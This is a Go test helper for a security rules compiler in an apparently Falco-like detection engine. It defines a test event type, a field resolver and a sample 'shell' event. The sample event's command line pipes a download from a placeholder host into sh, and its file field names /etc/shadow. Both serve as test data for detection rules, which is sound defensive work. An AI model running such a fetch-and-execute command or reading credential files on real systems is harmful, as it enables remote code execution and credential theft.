package compile

import (
	"fmt"
	"net/netip"

	"github.com/vigilsec/vigil/internal/rules/lang"
)

// testEvent is a plain struct standing in for the engine's event, so the
// compiler can be tested without kernel events. Empty strings and invalid
// addresses count as missing values.
type testEvent struct {
	Type    string
	Proc    string
	PName   string
	Cmdline string
	Exe     string
	PExe    string
	PID     uint64
	PPID    uint64
	Ret     int64
	FDName  string
	IP      netip.Addr
	Args    []string
	TTY     bool
	Buf     string
	Anames  []string
	Env     map[string]string
}

func present(s string) (string, bool) { return s, s != "" }

// testResolver knows a few Falco-like fields over testEvent.
type testResolver struct{}

func (testResolver) Lookup(name string, arg *lang.Arg) (Field[*testEvent], error) {
	if arg != nil {
		switch name {
		case "proc.aname":
			n, ok := arg.Index()
			if !ok {
				return Field[*testEvent]{}, fmt.Errorf("proc.aname needs a number, not %q", arg.Text)
			}
			return StringField(func(e *testEvent) (string, bool) {
				if n >= len(e.Anames) {
					return "", false
				}
				return e.Anames[n], true
			}), nil
		case "proc.env":
			key := arg.Text
			return StringField(func(e *testEvent) (string, bool) { v, ok := e.Env[key]; return v, ok }), nil
		}
		return Field[*testEvent]{}, fmt.Errorf("field %s takes no argument", name)
	}
	f, ok := testFields[name]
	if !ok {
		return f, &UnknownFieldError{Name: name}
	}
	return f, nil
}

var testFields = FieldMap[*testEvent]{
	"evt.type":      StringField(func(e *testEvent) (string, bool) { return e.Type, true }),
	"proc.name":     StringField(func(e *testEvent) (string, bool) { return present(e.Proc) }),
	"proc.pname":    StringField(func(e *testEvent) (string, bool) { return present(e.PName) }),
	"proc.cmdline":  StringField(func(e *testEvent) (string, bool) { return present(e.Cmdline) }),
	"proc.exepath":  StringField(func(e *testEvent) (string, bool) { return present(e.Exe) }),
	"proc.pexepath": StringField(func(e *testEvent) (string, bool) { return present(e.PExe) }),
	"proc.pid":      UintField(func(e *testEvent) (uint64, bool) { return e.PID, true }),
	"proc.ppid":     UintField(func(e *testEvent) (uint64, bool) { return e.PPID, e.PPID != 0 }),
	"evt.rawres":    IntField(func(e *testEvent) (int64, bool) { return e.Ret, true }),
	"fd.name":       StringField(func(e *testEvent) (string, bool) { return present(e.FDName) }),
	"fd.ip":         AddrField(func(e *testEvent) (netip.Addr, bool) { return e.IP, e.IP.IsValid() }),
	"fd.net":        {Type: TypeIPNet, Addr: func(e *testEvent) (netip.Addr, bool) { return e.IP, e.IP.IsValid() }},
	"proc.args":     ListField(func(e *testEvent) ([]string, bool) { return e.Args, e.Args != nil }),
	"proc.tty":      BoolField(func(e *testEvent) (bool, bool) { return e.TTY, true }),
	"evt.buffer":    {Type: TypeBytes, Str: func(e *testEvent) (string, bool) { return present(e.Buf) }},
	"broken.field":  {Type: TypeUint},
}

// shell is a typical event: bash run by sshd.
func shell() *testEvent {
	return &testEvent{
		Type: "execve", Proc: "bash", PName: "sshd", Cmdline: "bash -c 'curl http://x | sh'",
		Exe: "/usr/bin/bash", PExe: "/usr/sbin/sshd", PID: 4242, PPID: 1, Ret: -13,
		FDName: "/etc/shadow", IP: netip.MustParseAddr("10.1.2.3"),
		Args: []string{"-c", "curl"}, TTY: true, Buf: "\x7fELF\x02\x01",
		Anames: []string{"sshd", "systemd"}, Env: map[string]string{"HOME": "/root"},
	}
}
